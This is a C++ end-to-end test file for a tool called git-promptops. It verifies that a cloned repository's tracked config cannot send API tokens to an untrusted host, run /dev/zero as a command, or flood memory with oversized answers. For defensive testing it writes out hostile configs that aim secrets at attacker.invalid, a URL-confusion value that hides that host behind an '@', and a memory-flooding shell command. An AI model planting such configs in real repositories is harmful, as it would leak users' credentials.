// SPDX-License-Identifier: MIT
// End-to-end: what a cloned repository cannot make us do: send a secret to a host the user has
// not trusted, read a device named as an exec program, or fill memory with one answer.
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <vector>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "e2e/eval_fixture.hpp"
#include "support/harness.hpp"
#include "support/llm_server.hpp"

using namespace promptops::test;
using namespace promptops::test::eval;
using nlohmann::json;

namespace {

const std::string k_secret = "secret-xyz-0123456789";

bool contains(const std::string& text, const std::string& needle) {
  return text.find(needle) != std::string::npos;
}

// Every file under `dir` whose bytes contain `needle`, as paths relative to `dir`.
std::vector<std::string> files_containing(const std::filesystem::path& dir, const std::string& needle) {
  std::vector<std::string> found;
  std::error_code ec;
  for (std::filesystem::recursive_directory_iterator it(dir, ec), end; !ec && it != end; it.increment(ec)) {
    if (it->is_regular_file(ec) && contains(read_text(it->path()), needle)) {
      found.push_back(std::filesystem::relative(it->path(), dir).string());
    }
  }
  return found;
}

// A provider "models" at `base_url` that sends $`variable`, as a hostile clone would write it.
std::string hostile_config(const std::string& base_url, const std::string& variable) {
  return "[providers.models]\n"
         "kind = \"openai\"\n"
         "base_url = \"" +
         base_url +
         "\"\n"
         "api_key_env = \"" +
         variable +
         "\"\n"
         "retry_delay = 0.01\n"
         "\n"
         "[defaults.model]\n"
         "provider = \"models\"\n"
         "name = \"test-model\"\n";
}

// A repository with greet and four cases whose config is `config`, plus `extra` files, committed.
void write_project(TempRepo& repo, const std::string& config,
                   const std::map<std::string, std::string>& extra = {}) {
  repo.write(".promptops.toml", config);
  repo.write("evals/greet.jsonl", greet_cases({"Ann", "Bob", "Cid", "Dee"}));
  repo.write("prompts/greet.toml", greet_toml("Hey {{who}}!"));
  for (const auto& [path, content] : extra) {
    repo.write(path, content);
  }
  repo.commit("project");
}

// The environment of a run: the secret, and the capture server as the HTTP proxy, so that a
// request to any http:// host lands on 127.0.0.1 with its headers and body.
std::map<std::string, std::string> secret_env(const LlmServer& server, const std::string& variable = "GITHUB_TOKEN") {
  return {{variable, k_secret},
          {"http_proxy", "http://127.0.0.1:" + std::to_string(server.port())},
          {"GIT_PROMPTOPS_TRACE", "1"}};
}

// Whether any request the server saw carried the secret in a header or the body.
bool secret_seen(const LlmServer& server) {
  for (const SeenRequest& request : server.seen()) {
    for (const auto& [name, value] : request.headers) {
      if (contains(value, k_secret)) {
        return true;
      }
    }
    if (contains(request.body.dump(), k_secret)) {
      return true;
    }
  }
  return false;
}

// The per-case records of the first row of an `eval --format json` run.
std::vector<json> case_records(const json& doc) {
  std::vector<json> records;
  const std::string text = read_text(doc.at("rows").at(0).at("results_file").get<std::string>());
  for (std::size_t start = 0; start < text.size();) {
    const std::size_t end = text.find('\n', start);
    records.push_back(json::parse(text.substr(start, end - start)));
    start = end + 1;
  }
  return records;
}

}  // namespace

// --- secrets -----------------------------------------------------------------------------------

TEST_CASE("a tracked config cannot send a secret to a host the user has not trusted", "[e2e][trust]") {
  LlmServer server;
  server.set_rules(greet_rules());
  TempRepo repo;
  // The clone also tracks files that try to grant the trust themselves: none of them counts.
  write_project(repo, hostile_config("http://attacker.invalid/v1", "GITHUB_TOKEN"),
                {{".gitconfig", "[promptops]\n\ttrustSecret = GITHUB_TOKEN@http://attacker.invalid\n"},
                 {".gitmodules", "[promptops]\n\ttrustSecret = GITHUB_TOKEN@http://attacker.invalid\n"}});

  const auto start = std::chrono::steady_clock::now();
  const RunResult r = run_promptops(repo.path(), {"eval", "HEAD"}, secret_env(server));
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(10));
  CHECK(r.exit_code == 2);
  CHECK(r.out.empty());
  CHECK(contains(r.err,
                 "git-promptops: error: .promptops.toml:1:1: provider 'models' would send $GITHUB_TOKEN to "
                 "attacker.invalid over plain http, which you have not trusted with it\n"
                 "hint: if attacker.invalid may have it, run: git config --add promptops.trustSecret "
                 "GITHUB_TOKEN@http://attacker.invalid\n"));
  CHECK(!contains(r.err, k_secret));
  CHECK(server.seen().empty());
  CHECK(!secret_seen(server));
  CHECK(files_containing(repo.path() / ".git", k_secret).empty());

  SECTION("trust for https does not cover plain http") {
    repo.git({"config", "--add", "promptops.trustSecret", "GITHUB_TOKEN@attacker.invalid"});
    const RunResult again = run_promptops(repo.path(), {"eval", "HEAD"}, secret_env(server));
    CHECK(again.exit_code == 2);
    CHECK(contains(again.err, "would send $GITHUB_TOKEN to attacker.invalid over plain http"));
    CHECK(server.seen().empty());
  }
  SECTION("a key in .promptops.toml is no trust either") {
    repo.write(".promptops.toml", hostile_config("http://attacker.invalid/v1", "GITHUB_TOKEN") +
                                      "\n[promptops]\ntrustSecret = \"GITHUB_TOKEN@http://attacker.invalid\"\n");
    repo.commit("try to trust it");
    const RunResult again = run_promptops(repo.path(), {"eval", "HEAD"}, secret_env(server));
    CHECK(again.exit_code == 2);
    CHECK(server.seen().empty());
  }
}

TEST_CASE("a secret goes to a host once the user's own git config trusts it, and appears nowhere else",
          "[e2e][trust]") {
  LlmServer server;
  server.set_rules(greet_rules());
  TempRepo repo;
  write_project(repo, hostile_config("http://attacker.invalid/v1", "GITHUB_TOKEN"));
  const auto check_sent = [&](const RunResult& r) {
    INFO("stderr: " << r.err);
    CHECK(r.exit_code == 0);
    CHECK(server.requests() == 4);
    for (const SeenRequest& request : server.seen()) {
      CHECK(request.headers.at("host") == "attacker.invalid");
      CHECK(request.headers.at("authorization") == "Bearer " + k_secret);
    }
    CHECK(contains(r.err, "trace git-promptops: "));
    CHECK(!contains(r.err, k_secret));
    CHECK(!contains(r.out, k_secret));
    CHECK(files_containing(repo.path() / ".git", k_secret).empty());
  };

  SECTION("in .git/config") {
    repo.git({"config", "--add", "promptops.trustSecret", "GITHUB_TOKEN@http://Attacker.Invalid"});
    check_sent(run_promptops(repo.path(), {"eval", "HEAD"}, secret_env(server)));
  }
  SECTION("in the global config") {
    const TempDir home;
    std::ofstream(home.path() / ".gitconfig")
        << "[promptops]\n\ttrustSecret = OTHER@elsewhere.test\n\ttrustSecret = GITHUB_TOKEN@http://attacker.invalid\n";
    std::map<std::string, std::string> env = secret_env(server);
    env["HOME"] = home.path().string();
    check_sent(run_promptops(repo.path(), {"eval", "HEAD"}, env));
  }
}

TEST_CASE("a well-known key goes to its host only over https", "[e2e][trust]") {
  LlmServer server;
  server.set_rules(greet_rules());
  TempRepo repo;
  write_project(repo, hostile_config("http://api.openai.com/v1", "OPENAI_API_KEY"));
  const RunResult r = run_promptops(repo.path(), {"eval", "HEAD"}, secret_env(server, "OPENAI_API_KEY"));
  CHECK(r.exit_code == 2);
  CHECK(contains(r.err,
                 "provider 'models' would send $OPENAI_API_KEY to api.openai.com over plain http, which you "
                 "have not trusted with it\n"));
  CHECK(server.seen().empty());
}

TEST_CASE("a key to an untrusted https host stops the run before any connection", "[e2e][trust]") {
  TempRepo repo;
  write_project(repo, hostile_config("https://api.openai.com@attacker.invalid/v1", "OPENAI_API_KEY"));
  const RunResult r = run_promptops(repo.path(), {"eval", "HEAD"}, {{"OPENAI_API_KEY", k_secret}});
  CHECK(r.exit_code == 2);
  CHECK(r.err ==
        "git-promptops: error: .promptops.toml:1:1: provider 'models' would send $OPENAI_API_KEY to "
        "attacker.invalid, which you have not trusted with it\n"
        "hint: if attacker.invalid may have it, run: git config --add promptops.trustSecret "
        "OPENAI_API_KEY@attacker.invalid\n");
}

// --- exec and sizes ----------------------------------------------------------------------------

TEST_CASE("an untrusted exec provider naming /dev/zero stops at the trust check without reading it",
          "[e2e][trust]") {
  TempRepo repo;
  write_project(repo,
                "[providers.zero]\n"
                "kind = \"exec\"\n"
                "command = [\"/dev/zero\"]\n"
                "\n"
                "[defaults.model]\n"
                "provider = \"zero\"\n"
                "name = \"m\"\n");
  // Under a memory and CPU limit, so that a regression fails here instead of filling the machine.
  const auto start = std::chrono::steady_clock::now();
  const RunResult r = run(repo.path(),
                          {"/bin/sh", "-c", "ulimit -v 4000000 && ulimit -t 30 && exec \"$0\" eval HEAD",
                           promptops_binary().string()});
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(10));
  CHECK(r.exit_code == 2);
  CHECK(r.err ==
        "git-promptops: error: exec provider 'zero' runs `/dev/zero` but this repository is not trusted to "
        "run commands\n"
        "hint: read the command in .promptops.toml, then run: git config promptops.trustExec true\n");
}

TEST_CASE("an answer larger than 16 MiB is an error for its case, from exec, an exec scorer or HTTP",
          "[e2e][trust]") {
  TempRepo repo;
  const std::string big = "head -c 20000000 /dev/zero";
  SECTION("an exec provider is killed") {
    write_project(repo,
                  "[providers.big]\n"
                  "kind = \"exec\"\n"
                  "command = [\"/bin/sh\", \"-c\", \"cat >/dev/null; " + big + "\"]\n"
                      "\n"
                      "[defaults.model]\n"
                      "provider = \"big\"\n"
                      "name = \"m\"\n");
    repo.git({"config", "promptops.trustExec", "true"});
    const json doc = eval_json(repo.path(), {"HEAD"}, 2);
    for (const json& record : case_records(doc)) {
      CHECK(record.at("error") ==
            "exec-failed: exec provider 'big': `/bin/sh -c cat >/dev/null; " + big +
                "` printed more than 16 MiB, the limit for one answer, and was killed");
    }
  }
  SECTION("an exec scorer is killed") {
    LlmServer server;
    server.set_rules(greet_rules());
    write_project(repo, config_toml(server));
    repo.write("prompts/greet.toml",
               greet_toml("Hey {{who}}!", "assert = [{ type = \"exec\", value = \"" + big + "\" }]\n"));
    repo.commit("score with a loud command");
    repo.git({"config", "promptops.trustExec", "true"});
    const json doc = eval_json(repo.path(), {"HEAD"});  // failing cases alone do not change the status
    for (const json& record : case_records(doc)) {
      CHECK(record.at("pass") == false);
      CHECK(contains(record.at("reasons").dump(), "exec scorer printed more than 16 MiB, the limit for one answer"));
    }
  }
  SECTION("an HTTP answer is cut off") {
    LlmServer server;
    server.set_responder([](const json&) { return std::string(17u << 20, 'a'); });
    write_project(repo, config_toml(server));
    const json doc = eval_json(repo.path(), {"HEAD"}, 2);
    for (const json& record : case_records(doc)) {
      CHECK(record.at("error") == "network: the answer from " + server.base_url() +
                                      "/chat/completions is larger than 16 MiB, the limit for one answer");
    }
    CHECK(server.requests() == 4);  // not retried
  }
}
